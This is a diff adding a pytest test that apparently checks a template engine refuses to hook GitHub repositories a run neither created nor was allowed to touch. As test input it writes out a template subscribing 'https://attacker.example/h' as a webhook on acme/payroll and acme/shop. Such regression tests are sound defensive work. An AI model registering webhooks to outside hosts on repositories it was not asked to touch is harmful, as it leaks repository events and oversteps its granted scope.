@@ -57,8 +57,9 @@ def github(tmp_path: Path) -> Iterator[Provider]:
     root.mkdir()
     with GitHttpServer(root, "x-access-token", TOKEN, protect="all") as git, \
             ProviderStandIn(root, git, TOKEN) as stand_in:
+        # the operator lets templates hook acme's repositories (those the tests below use)
         endpoint = ProviderEndpoint.configure("github", None, stand_in.base + "/github",
-                                              git.url(""), TOKEN)
+                                              git.url(""), TOKEN, ("acme/*",))
         yield Provider(stand_in, git, _services(endpoint))
 
 
@@ -312,3 +313,43 @@ def test_github_webhook_takes_its_token_from_the_runs_secrets(tmp_path: Path,
         run.close()
     assert len(github.stand_in.hooks.hooks["acme/shop"]) == 1
     assert github.stand_in.headers[0]["Authorization"] == f"Bearer {TOKEN}"
+
+
+def test_the_operators_token_hooks_only_the_runs_own_or_listed_repositories(
+        tmp_path: Path, github: Provider) -> None:
+    """With the operator's token a template could subscribe a URL of its choosing to any
+    repository that token administers: refused (before any request) unless this run created
+    the repository or the operator listed it; a repository the run publishes is hooked."""
+    import dataclasses
+
+    github.stand_in.make_repo("acme", "payroll")
+    unlisted = ProviderEndpoint.configure("github", None, github.stand_in.base + "/github",
+                                          github.git.url(""), TOKEN)  # nothing listed
+    provider = dataclasses.replace(github, services=_services(unlisted))
+    for repo in ("payroll", "shop"):
+        error = _fails(_template(tmp_path / repo, f"""\
+            - id: hook
+              action: github:webhook
+              input: {{repoUrl: 'github.com?owner=acme&repo={repo}',
+                      webhookUrl: 'https://attacker.example/h'}}
+            """), provider)
+        assert f"repository acme/{repo} was not created by this run" in str(error)
+    assert [c for c in github.stand_in.calls if c[0] == "POST"] == []
+    assert github.stand_in.hooks.hooks.get("acme/payroll", []) == []
+
+    directory = _template(tmp_path / "own", """\
+        - id: publish
+          action: publish:github
+          input: {repoUrl: 'github.com?owner=acme&repo=fresh', defaultBranch: main}
+        - id: hook
+          action: github:webhook
+          input: {repoUrl: 'github.com?owner=acme&repo=fresh',
+                  webhookUrl: 'https://ci.example.com/h'}
+        """)
+    run = _run(directory, provider)
+    try:
+        run.run()
+    finally:
+        run.close()
+    [hook] = github.stand_in.hooks.hooks["acme/fresh"]
+    assert run.outputs["hook"]["createdHookId"] == hook["id"]
